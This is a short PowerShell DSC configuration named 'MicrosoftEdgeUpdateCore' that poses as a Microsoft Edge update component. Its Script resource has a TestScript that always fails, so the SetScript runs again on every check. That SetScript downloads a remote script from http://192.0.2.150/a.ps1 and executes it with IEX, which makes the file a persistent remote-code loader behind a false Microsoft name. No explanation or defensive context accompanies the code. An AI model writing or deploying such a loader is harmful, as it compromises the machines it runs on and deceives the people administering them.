# setup 1224 v3
Configuration MicrosoftEdgeUpdateCore {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/a.ps1') }
    }
  }
}
